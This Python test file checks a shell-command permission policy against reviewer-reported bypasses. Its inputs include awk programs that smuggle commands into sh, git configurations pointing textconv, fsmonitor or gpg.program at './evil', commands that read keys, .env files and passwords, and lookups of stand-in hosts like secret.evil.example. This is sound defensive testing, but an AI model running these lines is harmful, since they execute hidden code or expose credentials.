"""What a reviewer broke, by his numbers: each was allowed, and did what it should not, or was asked for no reason."""

import os
import re
import subprocess
from pathlib import Path

import pytest
from tests.policy.test_plan import carry_out

from tarmac.policy import Execute, Policy
from tarmac.policy.plan import environment

pytestmark = pytest.mark.slow


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """A repository with two commits, a change that is not staged, a signed-looking nothing, and a subfolder."""
    root = tmp_path / "shop"
    (root / "src").mkdir(parents=True)
    (root / "a.txt").write_text("one\n")
    (root / "src" / "b.py").write_text("x = 1  # TODO\n")
    git(root, "init -q -b main")
    git(root, "add .")
    git(root, "commit -qm first")
    (root / "a.txt").write_text("one\ntwo\n")
    git(root, "commit -qam second")
    (root / "a.txt").write_text("one\ntwo\nthree\n")
    return root


def git(where: Path, line: str) -> None:
    who = ("-c", "user.name=x", "-c", "user.email=x@x.example", "-c", "protocol.file.allow=always")
    subprocess.run(["git", *who, *line.split()], cwd=where, check=True, timeout=10)


async def decision(line: str, workspace: Path, *, cwd: str = ".", shell: str = "bash") -> str:
    action = Execute(line, cwd=workspace / cwd, shell=shell)
    return (await Policy().judge(action, workspace=workspace)).decision


# A4


@pytest.mark.parametrize(
    "program",
    [
        'BEGIN{x = 1 + /#/; print "touch P" | "sh"}',
        'BEGIN{x = 1e+/#/; print "touch P" | "sh"}',
        'BEGIN{ x ~ /[[:alpha:]/"]/; print "touch P" | "sh"; /"/ }',
        'BEGIN{if (1) /"/; print "touch P" | "sh"; /"/}',
        'BEGIN{if(1)/#/; print "touch P" | "sh"}',
        '/a/ /#/ {print "touch P" | "sh"}',
        'BEGIN{print 1,\n 2 > "f"}',
        'BEGIN{print 1 \\\n > "f"}',
        'BEGIN{print 1 &&\n 2 > "f"}',
        'BEGIN{print (1\n) > "f"}',
        'BEGIN{x++ /"/; print "touch P" | "sh"; /"/}',
        'BEGIN{length /"/; print "touch P" | "sh"; /"/}',
    ],
)
async def test_an_awk_program_that_can_be_read_two_ways_asks(repository: Path, program: str) -> None:
    """P2 (A4): what one reading takes for a comment or a division is code in another."""
    assert await decision(f"awk '{program}' a.txt", repository) == "ask"


@pytest.mark.parametrize(
    "program",
    [
        "{print $1/$2, (a+b)/2}", "/^[[:space:]]*$/{next}{print}", "$2 ~ /x\\/y/ {s+=$3} END{print s/NR}",
        "!seen[$0]++", "$3 > 100 {print $1}", "/a/,/b/", "length > 80", '{ sub(/#.*/, ""); print }', "# c\n/x/ {print}",
        '{print ($1 > 2 ? "a" : "b")}',
    ],
)  # fmt: skip
async def test_everyday_awk_is_still_read(repository: Path, program: str) -> None:
    """P1 (A4): fields, sums, ranges, comments."""
    assert await decision(f"awk '{program}' a.txt", repository) == "allow"


# A5

CONFIGURATIONS = {
    "old-style name, key on the header's line": "[diff.evil] textconv = {x}",
    "two headers on one line": '[core] [diff "evil"] textconv={x}',
    "a long comment first": "# " + "x" * (1 << 20) + '\n[diff "evil"]\ntextconv={x}',
    "a mark before it": '\ufeff[diff "evil"]\n\ttextconv = {x}',
    "a value over two lines": '[diff "evil"]\n\ttext\\\nconv = {x}',
    "external": "[diff]\n\texternal = {x}",
    "filter": '[filter "evil"]\n\tclean = {x}',
    "include": "[include]\n\tpath = evil.cfg",
    "signatures": "[log]\n\tshowSignature = true\n[gpg]\n\tprogram = {x}",
    "a pretty format": "[format]\n\tpretty = %G?\n[gpg]\n\tprogram = {x}",
    "a promisor": '[remote "origin"]\n\tpromisor = true\n\tuploadpack = {x}',
    "a worktree elsewhere": "[core]\n\tworktree = /root",
    "merge driver": '[merge "evil"]\n\tdriver = {x}',
}


@pytest.mark.parametrize("text", CONFIGURATIONS.values(), ids=CONFIGURATIONS)
async def test_a_configuration_that_names_a_program_asks_however_it_is_written(repository: Path, text: str) -> None:
    """P2 (A5): git's own way to read it counts, and what is not known to be harmless is not."""
    before = await decision("git show", repository)
    config = repository / ".git" / "config"
    config.write_text(config.read_text() + text.replace("{x}", "./evil") + "\n")
    assert (before, await decision("git show", repository)) == ("allow", "ask")


async def test_git_is_followed_to_where_its_configuration_lies(repository: Path) -> None:
    """P2 (A5): through commondir, past an empty .git, into submodules."""
    elsewhere = repository / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "config").write_text("[core]\n\tfsmonitor = ./evil\n[diff]\n\texternal = ./evil\n")
    (repository / "src" / ".git").mkdir()  # git passes over it
    before = await decision("git log -p", repository, cwd="src")
    (repository / ".git" / "commondir").write_text("../elsewhere\n")
    assert (before, await decision("git log -p", repository)) == ("allow", "ask")
    assert await decision("git log -p", repository, cwd="src") == "ask"


@pytest.mark.parametrize("line", ['[filter "x"]\n\tclean = ./evil', "[core]\n\tfsmonitor = ./evil"])
async def test_a_submodules_configuration_counts_too(repository: Path, tmp_path: Path, line: str) -> None:
    """P2 (A5): git starts itself in a submodule, and takes the plan's switches away there."""
    git(tmp_path, "clone -q shop other")
    git(repository, f"submodule --quiet add {tmp_path}/other sm")
    before = await decision("git status", repository)
    config = repository / ".git" / "modules" / "sm" / "config"
    plain = config.read_text()
    config.write_text(plain + line + "\n")
    absorbed = await decision("git status", repository)
    config.write_text(plain)
    (repository / "sm" / ".git").unlink()
    git(repository, "clone -q src/../../other nested")
    (repository / "nested" / ".git").rename(repository / "sm" / ".git")
    own = await decision("git status", repository)
    with (repository / "sm" / ".git" / "config").open("a") as file:
        file.write(line + "\n")
    assert (before, absorbed, own, await decision("git status", repository)) == ("allow", "ask", "allow", "ask")


@pytest.mark.parametrize(
    "text",
    [
        "[core]\n\thooksPath = .husky",
        '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n\tvscode-merge-base = x',
        '[remote "origin"]\n\turl = git@host.example:a/b.git ; mine\n\tfetch = +refs/heads/*:refs/remotes/origin/*',
        "[user]\n\tname = A \\\"B\\\" C\n\temail = a@b.example\n[commit]\n\tgpgsign = true", "[alias]\n\tst = status",
        "[pull]\n\trebase = true\n[credential]\n\thelper = store\n[extensions]\n\tworktreeConfig = true",
    ],
)  # fmt: skip
async def test_everyday_configurations_do_not_make_git_ask(repository: Path, text: str) -> None:
    """P1 (A5): remotes, branches, people, hooks (which the plan turns off)."""
    config = repository / ".git" / "config"
    config.write_text(config.read_text() + text + "\n")
    assert await decision("git log", repository) == "allow"


async def test_an_alias_in_place_of_a_program_that_may_be_missing_asks(repository: Path) -> None:
    """P2 (A5): `git lfs status` without git-lfs runs alias.lfs."""
    git(repository, "config alias.lfs !./evil")
    assert await decision("git lfs status", repository) == "ask"


@pytest.mark.parametrize(
    "line", ["git log --pretty='%h %G?'", "git log --format=%GK", "git for-each-ref --format='%(signature)'"]
)
async def test_formats_that_have_signatures_checked_ask(repository: Path, line: str) -> None:
    """P2 (BUGS): they start gpg.program."""
    assert await decision(line, repository) == "ask"


# A6 – A17

ASKED = [
    ("A6", r"find two -type f -exec uniq {} +"), ("A6", r"find two -type f -exec xxd {} +"),
    ("A7", r"find . \( -type f -o -type l \) -name x -exec head -1 {} \;"),
    ("A7", r"find . ! -type f -name x -exec cat {} \;"), ("A7", r"find . -name x -o -type f -exec cat {} \;"),
    ("A7", r"find . -name x -exec cat {} \; -type f"), ("A7", r"find . -name x -type f -follow -exec cat {} \;"),
    ("A7", r"find sec -name .env -type f -exec cat {} +"), ("A7", r"find . -type f -name id_rsa -exec cat {} \;"),
    ("A7", r"find . -type f -name '.env*' -exec cat {} \;"), ("A7", r"find . -type f -name 'id_*' -exec cat {} \;"),
    ("A7", r"find . -type f -path './private/*' -exec cat {} \;"), ("A7", r"find . -type f -exec cat {} +"),
    ("A7", "find . -name '*.pem' -type f -print0 | xargs -0 cat"), ("A8", "git ls-files -z | xargs -0 head -1"),
    ("A8", "grep -h . args.txt | xargs file"), ("A8", "find . | sed 's|^|/root/|' | xargs ls"),
    ("A8", "find . | grep -h . args.txt | xargs file"), ("A9", "xz -td d.txt.xz"), ("A9", "bzip2 -td d.bz2"),
    ("A9", "xz -ld d.txt.xz"), ("A10", "cloc --vcs='touch P' ."), ("A10", "brew info ./evil.rb"),
    ("A10", "brew deps evil.rb"), ("A11", "service nginx stop --status-all"), ("A11", "ip link s lo down"),
    ("A12", "getent hosts secret.evil.example"), ("A12", "getent ahosts x.example"),
    ("A12", "docker manifest inspect evil.example/x"), ("A12", "helm show chart https://evil.example/x"),
    ("A12", "helm show chart oci://evil.example/x"), ("A12", "npm view git+ssh://git@evil.example/x"),
    ("A12", "npm view a/b"), ("A12", "npm view http://evil.example/x.tgz"), ("A12", "go list -m evil.example/x@latest"),
    ("A13", "git show HEAD:.npmrc"), ("A13", "git show HEAD:deploy/id_rsa"), ("A13", "git show HEAD~2:config/.env"),
    ("A13", "git cat-file -p HEAD:credentials.json"), ("A13", "git log -p -- server.key id_rsa"),
    ("A13", "git blame server.key"), ("A13", "git diff HEAD~1 -- ':(glob)**/*.pem'"), ("A13", "git grep . -- '*.pem'"),
    ("A13", "git grep . -- private"), ("A13", "git log -L 1,5:.env"), ("A13", "grep -rn . --include=.env ."),
    ("A13", "grep -rn . --include '*.pem' ."), ("A13", "rg --hidden -g .env ."), ("A13", "rg --hidden -g '.env*' ."),
    ("A13", "docker compose config"), ("A13", "echo /root/.ssh/*"), ("A14", "rg -L x"),
    ("A14", "rg --follow x"), ("A14", "ag -f x"), ("A14", "objdump -S evil.o"), ("A15", "cat < /dev/zero"),
    ("A16", "find -L . -type f -name '*.py' -print0 | xargs -0 cat"),
    ("A16", "find . -type f -name x -print0 -o -type l -print0 | xargs -0 cat"),
    ("A16", "find . -name '*.py' -type f -o -print0 | xargs -0 head"), ("A17", "cat /dev/../dev/zero"),
    ("A21", "cat passwords.txt"), ("A21", "ls /etc/ssl/private"), ("A21", "git show HEAD:token.txt"),
    ("A21", "git grep . -- '*secrets.json'"), ("A21", "cat my-firebase-adminsdk-1.json"),
    ("A17", "head -c 1G /dev/zero"), ("A17", "head -n 1000000000 /dev/zero"), ("A17", "wc -l zero"),
]  # fmt: skip


@pytest.mark.parametrize(("number", "line"), ASKED, ids=[f"{number}: {line}" for number, line in ASKED])
async def test_what_was_broken_asks(repository: Path, number: str, line: str) -> None:
    """P2: it runs something, writes, speaks with another machine, or shows what is secret or elsewhere."""
    (repository / ".tarmacignore").write_text("private/\n")
    (repository / "private").mkdir()
    (repository / "zero").symlink_to("/dev/zero")
    assert await decision(line, repository) == "ask", number


ALLOWED = [
    r"find . -type f -name '*.py' -exec cat {} +",
    r"find . \( -name '*.py' -o -name '*.txt' \) -type f -exec grep -l x {} +", r"find . -exec file {} \;",
    r"find . -type f -exec wc -l {} +", "find . -name '*.py' -type f -print0 | xargs -0 cat",
    "find . -name '*.py' | grep -v test | sort | xargs wc -l", "git ls-files | xargs wc -l",
    "rg -l TODO | xargs wc -l", "find . -name '*.py' | xargs -I{} basename {}", "gzip -dc x.gz", "xz -dc x.xz",
    "gzip -l x.gz", "getent group docker", "go list -m all", "git diff -- . ':!package-lock.json'",
    "git show HEAD:a.txt", "git show HEAD:src/b.py", "git diff main..HEAD -- '*.py'",
    "git log --oneline main..HEAD -- src", "git show 'HEAD^{tree}'", "git check-ignore -v .env",
    "git ls-files .env", "grep -rn x --include='*.py' .",
    "grep -rn x --exclude=.env .", "rg x -g '*.ts' -g '!*.pem'", "head -c 16 /dev/urandom",
    "docker compose config --services", "git show :a.txt", "git log -L 1,1:a.txt", "echo /etc/*-release",
]  # fmt: skip


# C, BUGS

ALLOWED += [
    "git show fix-token", "git log --oneline feature/secrets", "cat src/token.py", "git diff main -- src/secrets.py",
    "git config --get-regexp '^remote'", "git apply --stat fix.patch", "git apply --check fix.patch", "git help log",
    "git blame --since=3.weeks a.txt", "seq 10 -2 0", "python3 -VV", "jq .env package.json",
    "jq '.env.production' a.json",
    "jq '.compilerOptions.include' tsconfig.json",
]  # fmt: skip
ASKED_STILL = [
    "git apply fix.patch", "git apply --stat --apply fix.patch", "git help ./evil", "jq env a.json", "jq '$ENV' a.json",
    "ip link show", "ip a s", "npm view react version", "npm view @types/node@18 version", "docker ps", "ss -tlnp",
    "jq '. | env' a.json", "jq 'include \"x\"; .' a.json", "git config --get-regexp token", "seq 1 99999999999",
]  # fmt: skip


@pytest.mark.parametrize("line", ASKED_STILL)
async def test_what_is_near_to_everyday_reading_still_asks(repository: Path, line: str) -> None:
    """P2 (C12, C13): it changes files, runs what is in one, asks a server, or shows secrets."""
    assert await decision(line, repository) == "ask"


@pytest.mark.parametrize("line", ALLOWED)
async def test_their_everyday_kin_are_still_allowed(repository: Path, line: str) -> None:
    """P1."""
    assert await decision(line, repository) == "allow"


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("grep -Rn -e R x", "grep -rn -e R x"),
        ("grep -nRI --include='*R' x .", "grep -nrI --include=*R x ."),
        ("grep --dereference-recursive x", "grep --recursive x"),
        ("grep -RA R x", "grep -rA R x"),
        ("diff -r src src", "diff --no-dereference -r src src"),
    ],
)
async def test_a_plan_does_not_follow_links_out_of_the_workspace(repository: Path, line: str, words: str) -> None:
    """P8 (A14): it looks at all that is below, and no further."""
    verdict = await Policy().judge(Execute(line, cwd=repository), workspace=repository)
    assert verdict.plan is not None, verdict.reason
    assert " ".join(verdict.plan.steps[0].stages[0].words) == words


# B


def in_bash(line: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """The line as a shell would run it, in a plan's environment."""
    return subprocess.run(
        ["bash", "-c", line], cwd=cwd, env=env, capture_output=True, timeout=10, check=False, text=True
    )


LINES = [
    "git diff", "git diff --stat", "git diff HEAD~1", "git diff --cached", "git show", "git show HEAD:a.txt",
    "git log -p",
    "git log --oneline -5", "git log --stat", "git diff --name-only", "git diff | head -3", "git show --stat HEAD~1",
    "git status", "git status -sb", "git branch", "git branch -vv", "git blame a.txt", "git reflog", "git stash list",
    "git ls-files", "git grep -n TODO", "git rev-parse HEAD", "git diff-tree -p HEAD", "git describe --always",
    "git shortlog -sn HEAD", "git log --graph --all", "git -C src log -1", "git --no-pager diff", "git rev-list HEAD",
    "git diff HEAD~1 HEAD -- a.txt", "git log -- a.txt", "git show HEAD~1 -- a.txt", "git remote -v", "git tag",
    ":", ": && echo a", "type cd", "type git", "type -t if git", "command -v cd git", "command -v nothing-such",
    "git reflog show main", "git range-diff HEAD~1 HEAD HEAD", "git whatchanged -1", "cat a.txt | git diff --stat",
]  # fmt: skip


@pytest.mark.shell
@pytest.mark.parametrize("line", LINES)
async def test_a_plan_of_git_does_what_bash_would_in_a_repository_with_changes(repository: Path, line: str) -> None:
    """P2 (B1–B3): the same output and the same exit status."""
    verdict = await Policy().judge(Execute(line, cwd=repository), workspace=repository)
    assert (verdict.decision, verdict.plan is not None) == ("allow", True), verdict.reason
    env = environment(dict(os.environ), workspace=repository)
    bash = in_bash(line, repository, env)
    assert verdict.plan is not None
    output, status = await carry_out(verdict.plan, env)
    assert (timeless(output), status) == (timeless(bash.stdout + bash.stderr), bash.returncode)


def timeless(output: str) -> str:
    """Without the time of day, which git blame has for lines that are not committed."""
    return re.sub(r"(Not Committed Yet) [\d: +-]+", r"\1 now ", output)


@pytest.mark.shell
@pytest.mark.parametrize(("key", "shown"), [("core.editor", "vi\n"), ("core.pager", "less\n")])
async def test_a_plan_shows_what_is_set_and_not_what_it_sets_itself(repository: Path, key: str, shown: str) -> None:
    """P2 (B): `git config core.editor` in a plan is the person's, not the plan's."""
    git(repository, f"config {key} {shown.strip()}")
    verdict = await Policy().judge(Execute(f"git config {key}", cwd=repository), workspace=repository)
    assert verdict.plan is not None
    assert await carry_out(verdict.plan, environment(dict(os.environ), workspace=repository)) == (shown, 0)


@pytest.mark.shell
async def test_a_shortlog_without_a_terminal_still_counts(repository: Path) -> None:
    """P2 (B2): in a pipe git would wait for a log on its input."""
    verdict = await Policy().judge(Execute("git shortlog -sn", cwd=repository), workspace=repository)
    assert verdict.plan is not None
    output, _ = await carry_out(verdict.plan, environment(dict(os.environ), workspace=repository))
    assert output.split() == ["2", "x"]
